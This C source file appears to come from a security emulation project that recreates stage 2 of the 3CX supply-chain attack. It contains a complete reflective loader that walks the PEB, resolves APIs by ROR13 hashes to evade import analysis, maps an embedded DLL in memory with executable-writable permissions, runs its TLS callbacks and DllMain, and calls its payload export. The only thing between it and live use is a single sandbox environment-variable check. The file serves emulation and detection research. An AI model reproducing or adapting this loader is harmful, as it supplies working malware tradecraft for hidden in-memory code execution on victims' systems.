/*
 * chainreplay synthetic 3CX scenario, stage 2: position-independent reflective loader.
 *
 * Written from scratch. Compiled freestanding (no CRT, no imports, no globals, no
 * string literals, no jump tables) and extracted with objcopy as raw code that follows
 * the bootstrap in entry_{x64,x86}.S. Benign and INERT outside the emulator: the very
 * first thing it does after resolving kernel32 is the CHAINREPLAY_SANDBOX check; if the
 * value is not "replay-only" it returns before any allocation, file, registry,
 * sync-object or network activity.
 *
 * What it does (docs/3cx-chain.md, stage 2, item 5):
 *   - finds kernel32 by walking PEB->Ldr->InMemoryOrderModuleList (ROR13 hash of the
 *     upper-cased base name), resolves LoadLibraryA, GetProcAddress, VirtualAlloc,
 *     VirtualProtect, GetEnvironmentVariableW from its export table by ROR13 hashes;
 *   - maps the PE DLL embedded in the blob (samcli.dll): VirtualAlloc(SizeOfImage,
 *     RW), copy headers + sections, apply base relocations, resolve imports with
 *     LoadLibraryA/GetProcAddress, VirtualProtect(image, PAGE_EXECUTE_READWRITE),
 *     run TLS callbacks and DllMain(DLL_PROCESS_ATTACH);
 *   - finds the export DllGetClassObject (by hash) and calls it as
 *     HRESULT __stdcall DllGetClassObject(DWORD 1200, DWORD 2400, const char *user_agent).
 *
 * Blob layout: see entry_x64.S and scenarios/3cx/README.md.
 */
#define WIN32_LEAN_AND_MEAN
#include <windows.h>

#define H_KERNEL32        0x6e2bca17u /* "KERNEL32.DLL" (upper-cased UTF-16 base name) */
#define H_LOADLIBRARYA    0xec0e4e8eu
#define H_GETPROCADDRESS  0x7c0dfcaau
#define H_VIRTUALALLOC    0x91afca54u
#define H_VIRTUALPROTECT  0x7946c61bu
#define H_GETENVVARW      0xf2e1a979u /* GetEnvironmentVariableW */
#define H_DLLGETCLASSOBJ  0x1e9b5eabu /* DllGetClassObject */

#if defined(_WIN64)
#define MACHINE_EXPECTED IMAGE_FILE_MACHINE_AMD64
#else
#define MACHINE_EXPECTED IMAGE_FILE_MACHINE_I386
#endif

typedef HMODULE (WINAPI *fn_LoadLibraryA)(LPCSTR);
typedef FARPROC (WINAPI *fn_GetProcAddress)(HMODULE, LPCSTR);
typedef LPVOID (WINAPI *fn_VirtualAlloc)(LPVOID, SIZE_T, DWORD, DWORD);
typedef BOOL (WINAPI *fn_VirtualProtect)(LPVOID, SIZE_T, DWORD, PDWORD);
typedef DWORD (WINAPI *fn_GetEnvironmentVariableW)(LPCWSTR, LPWSTR, DWORD);
typedef BOOL (WINAPI *fn_DllMain)(HINSTANCE, DWORD, LPVOID);
typedef HRESULT (WINAPI *fn_DllGetClassObject)(DWORD, DWORD, const char *);

/* Minimal loader structures (layouts valid for both x86 and x64). */
typedef struct {
    USHORT Length;
    USHORT MaximumLength;
    PWSTR Buffer;
} SC_USTR;

typedef struct {
    LIST_ENTRY InLoadOrderLinks;
    LIST_ENTRY InMemoryOrderLinks;
    LIST_ENTRY InInitializationOrderLinks;
    PVOID DllBase;
    PVOID EntryPoint;
    ULONG SizeOfImage;
    SC_USTR FullDllName;
    SC_USTR BaseDllName;
} SC_LDR_ENTRY;

typedef struct {
    ULONG Length;
    BOOLEAN Initialized;
    PVOID SsHandle;
    LIST_ENTRY InLoadOrderModuleList;
    LIST_ENTRY InMemoryOrderModuleList;
} SC_LDR_DATA;

typedef struct {
    BYTE Reserved1[4];
    PVOID Mutant;
    PVOID ImageBaseAddress;
    SC_LDR_DATA *Ldr;
} SC_PEB;

typedef struct {
    fn_LoadLibraryA LoadLibraryA;
    fn_GetProcAddress GetProcAddress;
    fn_VirtualAlloc VirtualAlloc;
    fn_VirtualProtect VirtualProtect;
    fn_GetEnvironmentVariableW GetEnvironmentVariableW;
} SC_API;

static inline __attribute__((always_inline)) SC_PEB *get_peb(void)
{
    SC_PEB *peb;
#if defined(_WIN64)
    __asm__ volatile("movq %%gs:0x60, %0" : "=r"(peb));
#else
    __asm__ volatile("movl %%fs:0x30, %0" : "=r"(peb));
#endif
    return peb;
}

static inline __attribute__((always_inline)) DWORD ror13(DWORD v)
{
    return (v >> 13) | (v << 19);
}

static DWORD hash_str(const char *s)
{
    DWORD h = 0;
    while (*s)
        h = ror13(h) + (BYTE)*s++;
    return h;
}

static DWORD hash_modname(const SC_USTR *u)
{
    DWORD h = 0;
    USHORT i;
    for (i = 0; i < u->Length / 2; i++) {
        WCHAR c = u->Buffer[i];
        if (c >= L'a' && c <= L'z')
            c = (WCHAR)(c - 0x20);
        h = ror13(h) + (BYTE)c;
    }
    return h;
}

static BYTE *find_module(DWORD hash)
{
    SC_LDR_DATA *ldr = get_peb()->Ldr;
    LIST_ENTRY *head = &ldr->InMemoryOrderModuleList;
    LIST_ENTRY *e;

    for (e = head->Flink; e && e != head; e = e->Flink) {
        SC_LDR_ENTRY *m = CONTAINING_RECORD(e, SC_LDR_ENTRY, InMemoryOrderLinks);
        if (m->BaseDllName.Buffer && hash_modname(&m->BaseDllName) == hash)
            return (BYTE *)m->DllBase;
    }
    return NULL;
}

static IMAGE_NT_HEADERS *nt_headers(BYTE *base)
{
    return (IMAGE_NT_HEADERS *)(base + ((IMAGE_DOS_HEADER *)base)->e_lfanew);
}

/*
 * Export lookup by ROR13 name hash. A forwarded export is resolved through
 * GetProcAddress (when already known) using the export's own name string.
 */
static void *find_export(BYTE *base, DWORD hash, fn_GetProcAddress gpa)
{
    IMAGE_DATA_DIRECTORY *dd =
        &nt_headers(base)->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_EXPORT];
    IMAGE_EXPORT_DIRECTORY *ed;
    DWORD *names, *funcs;
    WORD *ords;
    DWORD i;

    if (dd->VirtualAddress == 0 || dd->Size == 0)
        return NULL;
    ed = (IMAGE_EXPORT_DIRECTORY *)(base + dd->VirtualAddress);
    names = (DWORD *)(base + ed->AddressOfNames);
    funcs = (DWORD *)(base + ed->AddressOfFunctions);
    ords = (WORD *)(base + ed->AddressOfNameOrdinals);
    for (i = 0; i < ed->NumberOfNames; i++) {
        const char *name = (const char *)(base + names[i]);
        DWORD rva;
        if (hash_str(name) != hash)
            continue;
        if (ords[i] >= ed->NumberOfFunctions)
            return NULL;
        rva = funcs[ords[i]];
        if (rva >= dd->VirtualAddress && rva < dd->VirtualAddress + dd->Size)
            return gpa ? (void *)gpa((HMODULE)base, name) : NULL; /* forwarder */
        return base + rva;
    }
    return NULL;
}

static void sc_copy(BYTE *dst, const BYTE *src, SIZE_T n)
{
    volatile BYTE *d = dst; /* volatile: keep the compiler from emitting memcpy */
    while (n--)
        *d++ = *src++;
}

/* GetEnvironmentVariableW(L"CHAINREPLAY_SANDBOX") == L"replay-only" ? */
static int sandbox_marker_ok(SC_API *api)
{
    volatile WCHAR name[20];
    volatile WCHAR want[12];
    WCHAR buf[32];
    DWORD n, i;

    name[0] = 'C'; name[1] = 'H'; name[2] = 'A'; name[3] = 'I'; name[4] = 'N';
    name[5] = 'R'; name[6] = 'E'; name[7] = 'P'; name[8] = 'L'; name[9] = 'A';
    name[10] = 'Y'; name[11] = '_'; name[12] = 'S'; name[13] = 'A'; name[14] = 'N';
    name[15] = 'D'; name[16] = 'B'; name[17] = 'O'; name[18] = 'X'; name[19] = 0;
    want[0] = 'r'; want[1] = 'e'; want[2] = 'p'; want[3] = 'l'; want[4] = 'a';
    want[5] = 'y'; want[6] = '-'; want[7] = 'o'; want[8] = 'n'; want[9] = 'l';
    want[10] = 'y'; want[11] = 0;

    n = api->GetEnvironmentVariableW((LPCWSTR)name, buf, 32);
    if (n != 11)
        return 0;
    for (i = 0; i < 11; i++)
        if (buf[i] != want[i])
            return 0;
    return 1;
}

static BYTE *map_image(SC_API *api, const BYTE *raw, DWORD raw_len)
{
    const IMAGE_DOS_HEADER *dos = (const IMAGE_DOS_HEADER *)raw;
    const IMAGE_NT_HEADERS *nt;
    IMAGE_NT_HEADERS *mnt;
    IMAGE_SECTION_HEADER *sec;
    IMAGE_DATA_DIRECTORY *dd;
    BYTE *img;
    ULONG_PTR delta;
    DWORD i, old;

    if (raw_len < sizeof(IMAGE_DOS_HEADER) || dos->e_magic != IMAGE_DOS_SIGNATURE)
        return NULL;
    if ((DWORD)dos->e_lfanew + sizeof(IMAGE_NT_HEADERS) > raw_len)
        return NULL;
    nt = (const IMAGE_NT_HEADERS *)(raw + dos->e_lfanew);
    if (nt->Signature != IMAGE_NT_SIGNATURE || nt->FileHeader.Machine != MACHINE_EXPECTED)
        return NULL;

    img = (BYTE *)api->VirtualAlloc(NULL, nt->OptionalHeader.SizeOfImage,
                                    MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (img == NULL)
        return NULL;

    /* Headers, then each section's raw data at its RVA. */
    sc_copy(img, raw, nt->OptionalHeader.SizeOfHeaders);
    mnt = nt_headers(img);
    sec = IMAGE_FIRST_SECTION(mnt);
    for (i = 0; i < mnt->FileHeader.NumberOfSections; i++) {
        DWORD n = sec[i].SizeOfRawData;
        if (sec[i].PointerToRawData == 0 || n == 0)
            continue;
        if (sec[i].Misc.VirtualSize && n > sec[i].Misc.VirtualSize)
            n = sec[i].Misc.VirtualSize;
        if (sec[i].PointerToRawData + n > raw_len)
            return NULL;
        sc_copy(img + sec[i].VirtualAddress, raw + sec[i].PointerToRawData, n);
    }

    /* Base relocations. */
    delta = (ULONG_PTR)img - (ULONG_PTR)mnt->OptionalHeader.ImageBase;
    dd = &mnt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC];
    if (delta != 0 && dd->VirtualAddress != 0 && dd->Size != 0) {
        BYTE *p = img + dd->VirtualAddress;
        BYTE *end = p + dd->Size;
        while (p + sizeof(IMAGE_BASE_RELOCATION) <= end) {
            IMAGE_BASE_RELOCATION *blk = (IMAGE_BASE_RELOCATION *)p;
            WORD *ent = (WORD *)(blk + 1);
            DWORD cnt, k;
            if (blk->SizeOfBlock < sizeof(IMAGE_BASE_RELOCATION))
                break;
            cnt = (blk->SizeOfBlock - sizeof(IMAGE_BASE_RELOCATION)) / sizeof(WORD);
            for (k = 0; k < cnt; k++) {
                BYTE *at = img + blk->VirtualAddress + (ent[k] & 0x0fff);
                switch (ent[k] >> 12) {
                case IMAGE_REL_BASED_DIR64:
                    *(ULONGLONG *)at += (ULONGLONG)delta;
                    break;
                case IMAGE_REL_BASED_HIGHLOW:
                    *(DWORD *)at += (DWORD)delta;
                    break;
                default: /* IMAGE_REL_BASED_ABSOLUTE padding */
                    break;
                }
            }
            p += blk->SizeOfBlock;
        }
    }
    mnt->OptionalHeader.ImageBase = (ULONG_PTR)img;

    /* Imports. */
    dd = &mnt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_IMPORT];
    if (dd->VirtualAddress != 0 && dd->Size != 0) {
        IMAGE_IMPORT_DESCRIPTOR *imp = (IMAGE_IMPORT_DESCRIPTOR *)(img + dd->VirtualAddress);
        for (; imp->Name != 0; imp++) {
            HMODULE h = api->LoadLibraryA((LPCSTR)(img + imp->Name));
            IMAGE_THUNK_DATA *lookup, *iat;
            if (h == NULL)
                return NULL;
            iat = (IMAGE_THUNK_DATA *)(img + imp->FirstThunk);
            lookup = imp->OriginalFirstThunk
                         ? (IMAGE_THUNK_DATA *)(img + imp->OriginalFirstThunk)
                         : iat;
            for (; lookup->u1.AddressOfData != 0; lookup++, iat++) {
                FARPROC f;
                if (IMAGE_SNAP_BY_ORDINAL(lookup->u1.Ordinal))
                    f = api->GetProcAddress(h, (LPCSTR)(ULONG_PTR)IMAGE_ORDINAL(lookup->u1.Ordinal));
                else
                    f = api->GetProcAddress(
                        h, (LPCSTR)((IMAGE_IMPORT_BY_NAME *)(img + lookup->u1.AddressOfData))->Name);
                if (f == NULL)
                    return NULL;
                iat->u1.Function = (ULONG_PTR)f;
            }
        }
    }

    /* One protection change for the whole image (code and data alike). */
    if (!api->VirtualProtect(img, mnt->OptionalHeader.SizeOfImage, PAGE_EXECUTE_READWRITE, &old))
        return NULL;

    /* TLS callbacks (a CRT-built DLL may have them), then DllMain. */
    dd = &mnt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_TLS];
    if (dd->VirtualAddress != 0 && dd->Size != 0) {
        IMAGE_TLS_DIRECTORY *tls = (IMAGE_TLS_DIRECTORY *)(img + dd->VirtualAddress);
        PIMAGE_TLS_CALLBACK *cb = (PIMAGE_TLS_CALLBACK *)tls->AddressOfCallBacks;
        while (cb && *cb) {
            (*cb)(img, DLL_PROCESS_ATTACH, NULL);
            cb++;
        }
    }
    if (mnt->OptionalHeader.AddressOfEntryPoint != 0) {
        fn_DllMain entry = (fn_DllMain)(img + mnt->OptionalHeader.AddressOfEntryPoint);
        if (!entry((HINSTANCE)img, DLL_PROCESS_ATTACH, NULL))
            return NULL;
    }
    return img;
}

/* Called by the bootstrap with the blob's base address. */
__attribute__((used)) void sc_main(BYTE *blob)
{
    SC_API api;
    BYTE *k32, *img;
    DWORD dll_off = *(DWORD *)(blob + 4);
    DWORD dll_len = *(DWORD *)(blob + 8);
    DWORD ua_off = *(DWORD *)(blob + 12);
    fn_DllGetClassObject dgco;

    if (blob[2] != 'S' || blob[3] != '2')
        return;
    k32 = find_module(H_KERNEL32);
    if (k32 == NULL)
        return;
    api.GetProcAddress = (fn_GetProcAddress)find_export(k32, H_GETPROCADDRESS, NULL);
    api.GetEnvironmentVariableW = (fn_GetEnvironmentVariableW)find_export(k32, H_GETENVVARW, api.GetProcAddress);
    if (api.GetProcAddress == NULL || api.GetEnvironmentVariableW == NULL)
        return;

    /* Sandbox marker: nothing else happens outside the chainreplay emulator. */
    if (!sandbox_marker_ok(&api))
        return;

    api.LoadLibraryA = (fn_LoadLibraryA)find_export(k32, H_LOADLIBRARYA, api.GetProcAddress);
    api.VirtualAlloc = (fn_VirtualAlloc)find_export(k32, H_VIRTUALALLOC, api.GetProcAddress);
    api.VirtualProtect = (fn_VirtualProtect)find_export(k32, H_VIRTUALPROTECT, api.GetProcAddress);
    if (!api.LoadLibraryA || !api.VirtualAlloc || !api.VirtualProtect)
        return;

    img = map_image(&api, blob + dll_off, dll_len);
    if (img == NULL)
        return;
    dgco = (fn_DllGetClassObject)find_export(img, H_DLLGETCLASSOBJ, api.GetProcAddress);
    if (dgco == NULL)
        return;
    dgco(1200, 2400, (const char *)(blob + ua_off));
}
